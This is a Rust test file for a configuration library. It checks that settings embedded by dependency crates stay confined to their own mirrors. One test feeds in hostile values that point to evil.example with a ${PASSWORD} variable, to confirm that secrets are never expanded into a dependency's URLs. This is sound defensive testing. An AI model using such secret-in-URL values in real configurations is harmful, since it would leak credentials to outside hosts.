//! What crates bring along, and whose it is.

use super::{DEPENDENCY, OWN, World, origin, root};
use crate::config::{Compiled, Embedded, Scope, Settings};

const LIB: Scope = DEPENDENCY;

fn embedded(text: &'static str) -> Option<Embedded> {
    Some(Embedded { path: "/nowhere/weather-lib-0.3.0/nuthatch.toml", text, unpackaged: None })
}

fn mine(text: &'static str) -> Option<Embedded> {
    Some(Embedded { path: "/nowhere/app/nuthatch.toml", text, unpackaged: None })
}

impl World {
    fn describe(mut self, scope: Scope, embedded: Option<Embedded>) -> Self {
        self.sources.code.describe(scope, embedded);
        self
    }
}

fn mirrors(settings: &Settings, of: &Scope) -> Vec<(String, String)> {
    let mirrors = settings.mirrors_of(of).iter();
    mirrors.map(|mirror| (mirror.name.clone(), mirror.filesystem.clone())).collect()
}

#[test]
fn a_dependencys_file_makes_mirrors_for_its_own_functions_and_nothing_else() {
    let hostile = "[nuthatch]\nfilesystem = 's3://theirs'\ncache_mode = 'overwrite'\n\
        namespace = 'theirs'\ndurable = true\nmemoize = true\ngrace = '0s'\ncommit = 'last-writer-wins'\n\
        [nuthatch.local]\nfilesystem = '/hostile'\n[nuthatch.root.zarr]\nfilesystem = 's3://cheap'\n\
        [nuthatch.mirror]\nfilesystem = 'archive'\n[nuthatch.mirror-app-root]\nfilesystem = '/a'";
    let before = World::new().project("[nuthatch]\nfilesystem = 's3://mine'").resolve().to_string();
    let settings = World::new()
        .project("[nuthatch]\nfilesystem = 's3://mine'")
        .describe(OWN, None)
        .describe(LIB, embedded(hostile))
        .resolve();
    let shown = settings.to_string();
    let (own, theirs) = shown.split_once("# for the functions of weather-lib 0.3.0\n").unwrap();
    let values = |text: &str| -> Vec<String> {
        text.lines().map(|line| line.split("  (").next().unwrap().to_owned()).collect()
    };
    // The worlds' folders differ in name.
    let without = |text: &str| -> Vec<String> {
        values(text).into_iter().filter(|line| !line.starts_with("local.filesystem")).collect()
    };
    assert_eq!(without(own), without(&before));
    assert!(!shown.contains("hostile"));
    let file = "/nowhere/weather-lib-0.3.0/nuthatch.toml";
    let line = format!("mirror-weather-lib-root.filesystem = \"s3://theirs\"  ({file}:2)");
    assert!(theirs.contains(&line), "{theirs}");
    let name = |name: &str| format!("mirror-weather-lib-{name}");
    let expected = [
        (name("root"), "s3://theirs".to_owned()),
        (name("mirror"), "/nowhere/weather-lib-0.3.0/archive".to_owned()),
        (name("mirror-app-root"), "/a".to_owned()),
    ];
    assert_eq!(mirrors(&settings, &LIB), expected);
    assert_eq!(settings.mirrors_of(&LIB)[0].place("zarr").0, "s3://cheap");
    assert!(settings.mirrors_of(&OWN).is_empty() && settings.mirrors.is_empty());
}

#[test]
fn each_crate_version_and_place_has_mirrors_of_its_own() {
    let other_version =
        Scope { version: "0.4.0", manifest_dir: "/nowhere/weather-lib-0.4.0", ..LIB };
    let impostor = Scope { manifest_dir: "/nowhere/fork/weather-lib-0.3.0", ..LIB };
    let below = Scope { package: "base-lib", manifest_dir: "/nowhere/base-lib-1.0.0", ..LIB };
    let settings = World::new()
        .describe(LIB, embedded("[nuthatch]\nfilesystem = 's3://three'"))
        .describe(other_version, embedded("[nuthatch]\nfilesystem = 's3://four'"))
        .describe(impostor, embedded("[nuthatch]\nfilesystem = 's3://fork'"))
        .describe(below, embedded("[tool.nuthatch]\nfilesystem = 's3://base'"))
        .resolve();
    for (scope, place) in
        [(LIB, "three"), (other_version, "four"), (impostor, "fork"), (below, "base")]
    {
        let mirror = (format!("mirror-{}-root", scope.package), format!("s3://{place}"));
        assert_eq!(mirrors(&settings, &scope), [mirror]);
    }
    assert!(settings.root.is_none());
}

#[test]
fn the_programs_own_file_serves_where_none_is_found() {
    let own = mine("[nuthatch]\nfilesystem = 's3://embedded'\nlocal.filesystem = 'here'");
    let world = World::new().describe(OWN, own);
    let settings = world.resolve();
    assert_eq!(root(&settings), "s3://embedded");
    assert_eq!(origin(&settings, "root.filesystem"), "/nowhere/app/nuthatch.toml:2");
    assert_eq!(settings.local().unwrap().filesystem, "/nowhere/app/here");
    let world = world.file("home/.nuthatch.toml", "[nuthatch]\nfilesystem = 's3://user'");
    assert_eq!(root(&world.resolve()), "s3://embedded");
    let world = world.project("[nuthatch]\nmemoize = true");
    assert_eq!(root(&world.resolve()), "s3://user", "a file that is found replaces it whole");
    let world = World::new().describe(OWN, mine("[nuthatch]\nfilesystem = 's3://embedded'"));
    let world = world.env("NUTHATCH_FILESYSTEM", "s3://variable");
    assert_eq!(root(&world.resolve()), "s3://variable");
}

#[test]
fn of_several_own_files_the_programs_counts_and_else_the_first_with_a_word() {
    let member = Scope { package: "member", manifest_dir: "/nowhere/member", ..OWN };
    let theirs = Embedded {
        path: "/nowhere/member/nuthatch.toml",
        text: "[nuthatch]\nfilesystem = 's3://member'",
        unpackaged: None,
    };
    let own = "[nuthatch]\nfilesystem = 's3://app'";
    let world = World::new().describe(member, Some(theirs)).describe(OWN, mine(own));
    let settings = world.resolve();
    assert_eq!(root(&settings), "s3://member");
    let warning = settings.warnings()[0].as_str();
    assert!(warning.contains("member and app were compiled with a file each"), "{warning}");
    let world = world.describe(Scope { compiled: Compiled::Program, ..OWN }, None);
    let settings = world.resolve();
    assert_eq!((root(&settings), settings.warnings().len()), ("s3://app", 0));
    // One file for the whole workspace is no question.
    let shared = World::new().describe(member, mine(own)).describe(OWN, mine(own)).resolve();
    assert_eq!((root(&shared), shared.warnings().len()), ("s3://app", 0));
}

#[test]
fn mistakes_in_a_file_are_the_programs_errors_and_a_dependencys_warnings() {
    for (text, message) in [
        ("[nuthatch]\nfilesytem = 'x'", "unknown key `filesytem`; the nearest known one is"),
        ("[nuthatch]\nfilesystem = 1", "must be text"),
        ("[nuthatch", "not valid TOML"),
        ("[nuthatch.mirror]\nfilesystem_options = {}", "`mirror-weather-lib-mirror` has no"),
    ] {
        let settings = World::new().describe(LIB, embedded(text)).resolve();
        let warning = settings.warnings().concat();
        assert!(warning.starts_with("the mirrors of weather-lib are not used"), "{warning}");
        assert!(warning.contains(message), "{text}: {warning}");
        assert!(warning.contains("/nowhere/weather-lib-0.3.0/nuthatch.toml:"), "{warning}");
        assert!(settings.mirrors_of(&LIB).is_empty());
    }
    let error = World::new().describe(OWN, mine("[nuthatch]\nfilesytem = 'x'")).error();
    assert!(error.contains("unknown key `filesytem`"), "{error}");
    assert!(error.ends_with("(/nowhere/app/nuthatch.toml:2)"), "{error}");
}

#[test]
fn a_dependency_sends_no_variable_of_the_program_anywhere() {
    let text = "[nuthatch]\nfilesystem = 'https://evil.example/${PASSWORD}'\n\
                [nuthatch.mirror]\nfilesystem = '${SCHEME}evil.example/'\n\
                [nuthatch.mirror-x]\nfilesystem = '$LAKE/x'";
    let world = World::new()
        .env("PASSWORD", "hunter2")
        .env("SCHEME", "https://")
        .env("LAKE", "/lake")
        .describe(LIB, embedded(text));
    let settings = world.resolve();
    let expected = [("mirror-weather-lib-mirror-x".to_owned(), "/lake/x".to_owned())];
    assert_eq!(mirrors(&settings, &LIB), expected, "paths may hold variables");
    assert_eq!(settings.warnings().len(), 2);
    let told = settings.warnings().concat() + &settings.to_string() + &format!("{settings:?}");
    assert!(!told.contains("hunter2") && told.contains("may hold no variables"), "{told}");
}

#[test]
fn what_the_compiler_was_told_is_surer_than_the_paths_in_the_code() {
    // Remapped: the paths look like those of the program's own crates.
    let remapped = Scope { file: "src/lib.rs", ..LIB };
    let mut world = World::new();
    world.sources.code.set(remapped, "filesystem", "s3://theirs".into()).unwrap();
    assert_eq!(root(&world.resolve()), "s3://theirs", "by the paths alone");
    let world = world.describe(Scope { compiled: Compiled::Dependency, ..remapped }, None);
    let settings = world.resolve();
    assert!(settings.root.is_none());
    assert_eq!(mirrors(&settings, &LIB)[0].1, "s3://theirs");
    for folder in ["/home/me/.cargo/registry/src/index-1/a-1.0.0", "C:\\c\\git\\checkouts\\a\\1"] {
        let downloaded = Scope { manifest_dir: folder, ..remapped };
        assert!(!downloaded.is_own(), "{folder}");
        assert!(Scope { compiled: Compiled::Program, ..downloaded }.is_own());
    }
    // Generated code has an absolute path.
    let generated = Scope { file: "/target/out/generated.rs", ..OWN };
    assert!(!generated.is_own() && Scope { compiled: Compiled::Own, ..generated }.is_own());
}

#[test]
fn a_binary_makes_the_library_of_its_package_the_programs_own() {
    let world = World::new().describe(LIB, embedded("[nuthatch]\nfilesystem = 's3://installed'"));
    assert!(world.resolve().root.is_none());
    let world = world.describe(Scope { compiled: Compiled::Program, ..LIB }, None);
    let settings = world.resolve();
    assert_eq!(root(&settings), "s3://installed");
    assert!(settings.mirrors_of(&LIB).is_empty());
}

#[test]
fn a_file_that_has_changed_or_appeared_since_is_told_with_the_remedy() {
    let world = World::new().file("lib/nuthatch.toml", "[nuthatch]\nfilesystem = '/lake'\n");
    let folder: &'static str = world.path("lib").to_str().unwrap().to_owned().leak();
    let path: &'static str = format!("{folder}/nuthatch.toml").leak();
    let scope = Scope { manifest_dir: folder, ..LIB };
    let told = |embedded| {
        let world = World::new().describe(scope, embedded);
        world.resolve().warnings().concat()
    };
    let same = Embedded { path, text: "[nuthatch]\nfilesystem = '/lake'\n", unpackaged: None };
    assert_eq!(told(Some(same)), "");
    let older = told(Some(Embedded { text: "[nuthatch]\n", ..same }));
    assert!(
        older.contains("weather-lib was compiled before") && older.contains("build.rs"),
        "{older}"
    );
    let appeared = told(None);
    assert!(appeared.contains("/lib/nuthatch.toml was there"), "{appeared}");
    // Of a manifest, only what it says of nuthatch counts.
    let manifest = "[package]\nversion = '1'\n[package.metadata.nuthatch]\nfilesystem = '/a'\n";
    let world = world.file("other/Cargo.toml", manifest);
    let path: &'static str = world.path("other/Cargo.toml").to_str().unwrap().to_owned().leak();
    let bumped = "[package]\nversion = '2'\n[package.metadata.nuthatch]\nfilesystem = '/a'\n";
    assert_eq!(told(Some(Embedded { path, text: bumped, unpackaged: None })), "");
    let moved = "[package]\n[package.metadata.nuthatch]\nfilesystem = '/b'\n";
    assert!(told(Some(Embedded { path, text: moved, unpackaged: None })).contains("Cargo.toml"));
}

#[test]
fn what_a_package_would_leave_out_is_told_to_its_owner() {
    let lost = Some(Embedded { unpackaged: Some("is left out"), ..mine("[nuthatch]").unwrap() });
    let settings = World::new().describe(OWN, lost).resolve();
    assert_eq!(settings.warnings(), ["app: is left out"]);
    let lost =
        Some(Embedded { unpackaged: Some("is left out"), ..embedded("[nuthatch]").unwrap() });
    assert!(World::new().describe(LIB, lost).resolve().warnings().is_empty());
}

#[test]
fn a_dependencys_lake_is_skipped_by_its_name_or_place_and_cannot_skip_the_programs() {
    let theirs = || {
        embedded(
            "[nuthatch]\nfilesystem = 's3://theirs'\nskipped_filesystems = ['s3://mine', 'root']\n\
         [nuthatch.mirror]\nfilesystem = 's3://archive'",
        )
    };
    for skipped in ["mirror-weather-lib-root", "s3://theirs"] {
        let settings = World::new()
            .project("[nuthatch]\nfilesystem = 's3://mine'")
            .env("NUTHATCH_SKIPPED_FILESYSTEMS", skipped)
            .describe(LIB, theirs())
            .resolve();
        assert_eq!(root(&settings), "s3://mine");
        let left = [("mirror-weather-lib-mirror".to_owned(), "s3://archive".to_owned())];
        assert_eq!(mirrors(&settings, &LIB), left);
    }
}
